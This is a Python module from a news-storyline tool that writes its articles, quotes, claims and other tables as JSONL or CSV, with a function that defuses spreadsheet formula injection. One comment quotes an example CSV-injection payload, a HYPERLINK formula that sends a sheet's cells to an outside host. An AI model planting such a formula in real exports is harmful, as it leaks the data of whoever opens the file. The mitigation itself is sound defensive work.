"""Export: the stable JSONL/CSV interface that benchmarks and outside tools read."""

from __future__ import annotations

import csv
import json
from typing import IO, TYPE_CHECKING, Any, Literal, get_args

from storyline.errors import UsageError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator, Sequence

    from storyline.store import Store

What = Literal[
    "articles",
    "entities",
    "quotes",
    "timexes",
    "timeline",
    "stories",
    "claims",
    "rejected",
    "changes",
    "quote_groups",
]
WHATS: tuple[str, ...] = get_args(What)
ExportFormat = Literal["jsonl", "csv"]
# ``stage:NAME`` exports what a plug-in stage stored (``stage_outputs``).
STAGE_PREFIX = "stage:"
STAGE_COLUMNS: tuple[str, ...] = ("stage", "item_id", "output")

# Each export's columns, in the order a non-empty export writes them (the read model's rows:
# table order, then what the read model adds). An empty CSV export writes this header alone,
# as a spreadsheet import expects; tests/test_export.py checks it against a filled store.
COLUMNS: dict[str, tuple[str, ...]] = {
    "articles": (
        "id",
        "content_hash",
        "title",
        "text",
        "source",
        "url",
        "published",
        "published_source",
        "published_confidence",
        "language",
        "format",
        "locator",
        "raw_sha256",
        "meta",
        "duplicate_of",
        "quality",
        "quality_flags",
        "published_precision",
        "quality_reasons",
        "removed",
        "story_ids",
    ),
    "entities": ("id", "name", "type", "aliases", "roles", "article_ids"),
    "quotes": (
        "id",
        "article_id",
        "speaker",
        "speaker_text",
        "cue",
        "kind",
        "text",
        "start",
        "end",
        "nested_in",
        "speaker_entity_id",
        "flagged_only",
        "speaker_kind",
    ),
    "timexes": ("article_id", "start", "end", "text", "type", "value", "anchor"),
    "timeline": (
        "id",
        "story_id",
        "date",
        "text",
        "sources",
        "actors",
        "place",
        "until",
        "flagged_only",
    ),
    "stories": (
        "id",
        "label",
        "level",
        "parent",
        "article_ids",
        "first_date",
        "last_date",
        "title",
        "flagged_only",
    ),
    "claims": (
        "id",
        "story_id",
        "text",
        "article_ids",
        "sources",
        "kind",
        "support",
        "date",
        "conflicts",
        "wording_differs",
        "flagged_only",
    ),
    "rejected": ("locator", "code", "reason", "detail", "stage", "item_id"),
    "changes": ("cycle", "seq", "kind", "story_id", "text"),
    "quote_groups": (
        "id",
        "story_id",
        "speaker",
        "representative",
        "representative_kind",
        "variants",
        "first_date",
        "last_date",
        "outlets",
        "flagged_only",
        "speaker_kind",
    ),
}


def export_columns(what: str) -> tuple[str, ...]:
    """Return the columns of one export (``stage:NAME`` included), in the order rows hold them.

    Raises:
        UsageError: ``what`` is not a known export.
    """
    if what.startswith(STAGE_PREFIX):
        return STAGE_COLUMNS
    if what not in COLUMNS:
        choices = ", ".join((*WHATS, f"{STAGE_PREFIX}NAME"))
        raise UsageError(f"unknown export {what!r}; choose one of {choices}")
    return COLUMNS[what]


def export_rows(store: Store, what: str) -> Iterator[dict[str, Any]]:
    """Yield the rows of one export, in a stable order.

    Every table export reads through the read model (``store.read.Reader``) the web UI and
    the API read through, so ``/api`` and the export give an object the same row.

    Raises:
        UsageError: ``what`` is not a known export.
    """
    if what.startswith(STAGE_PREFIX):
        yield from stage_rows(store, what.removeprefix(STAGE_PREFIX))
        return
    if what not in WHATS:
        choices = ", ".join((*WHATS, f"{STAGE_PREFIX}NAME"))
        raise UsageError(f"unknown export {what!r}; choose one of {choices}")
    reader = store.reader()
    reads: dict[str, Callable[[], Iterable[dict[str, Any]]]] = {
        "articles": reader.articles,
        "entities": reader.entities,
        "quotes": reader.quotes,
        "timexes": reader.timexes,
        "timeline": reader.timeline_rows,
        "stories": reader.stories,
        "claims": reader.claim_rows,
        "rejected": reader.rejected,
        "changes": reader.changes,
        # one statement by one speaker across a storyline's articles, best-reported first
        "quote_groups": reader.quote_groups,
    }
    yield from reads[what]()


def stage_rows(store: Store, name: str) -> Iterator[dict[str, Any]]:
    """Yield what a plug-in stage stored, ``{"stage", "item_id", "output"}``, by item id.

    ``name`` is the stage's full name or a built-in's label; a stage no longer registered
    still exports what it stored under its full name.

    Raises:
        UsageError: no registered stage and nothing stored has that name.
    """
    from storyline.registry import Pipeline, PipelineError  # noqa: PLC0415 - loads entry points

    try:
        name = Pipeline.load().find(name).name
    except PipelineError:
        if not any(True for _ in store.stage_outputs(name)):
            msg = f"no stage {name!r} and nothing stored by one: see `storyline stages`"
            raise UsageError(msg) from None
    for row in store.stage_outputs(name):
        yield {"stage": name, **row}


# A CSV cell starting with one of these is a formula to Excel, LibreOffice and Google Sheets:
# a title or a speaker name like '=HYPERLINK("http://x/?"&A1, "Ferry")' sent the sheet's
# cells away, or ran a command (DDE), when a journalist opened the export (OWASP "CSV
# injection"). Such a cell gets a leading "'", which spreadsheets show as text and hide.
_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _cell(value: Any) -> Any:  # noqa: ANN401 - any value a row holds
    """Return a CSV cell's value, a text a spreadsheet would run as a formula made inert."""
    if not isinstance(value, str) or not value.startswith(_FORMULA_STARTS):
        return value
    try:
        float(value)  # "-5" or "+1.5" is a number, no formula: kept as it is
    except ValueError:
        return "'" + value
    return value


def write_export(
    rows: Iterator[dict[str, Any]],
    out: IO[str],
    fmt: ExportFormat,
    columns: Sequence[str] = (),
) -> int:
    """Write rows as JSONL or CSV; return how many were written.

    CSV: nested values JSON-encoded, and a text a spreadsheet would run as a formula (it
    starts with = + - @) is written with a leading "'" (JSONL keeps every value as stored).
    With no rows, CSV is the header of ``columns`` alone (``export_columns``) and JSONL is
    empty.
    """
    count = 0
    if fmt == "jsonl":
        for row in rows:
            out.write(json.dumps(row, ensure_ascii=False, sort_keys=False) + "\n")
            count += 1
        return count
    writer: csv.DictWriter[str] | None = None
    for row in rows:
        flat = {
            k: json.dumps(v, ensure_ascii=False) if isinstance(v, list | dict) else _cell(v)
            for k, v in row.items()
        }
        if writer is None:
            writer = csv.DictWriter(out, fieldnames=list(flat), lineterminator="\n")
            writer.writeheader()
        writer.writerow(flat)
        count += 1
    if writer is None and columns:
        csv.writer(out, lineterminator="\n").writerow(columns)
    return count
